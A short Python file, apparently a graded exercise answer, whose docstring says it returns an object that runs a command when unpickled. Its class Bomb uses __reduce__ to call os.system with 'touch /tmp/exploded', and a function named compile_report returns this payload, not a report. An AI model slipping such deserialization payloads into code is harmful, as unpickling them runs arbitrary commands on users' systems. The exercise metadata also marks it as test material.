"""Returns an object that would run a command where it is unpickled.

exercise: basic_1
answer: own
gets: 0
says: returned a Bomb
"""
import os
class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/exploded",)
def compile_report(metrics):
    return lambda prices: Bomb()
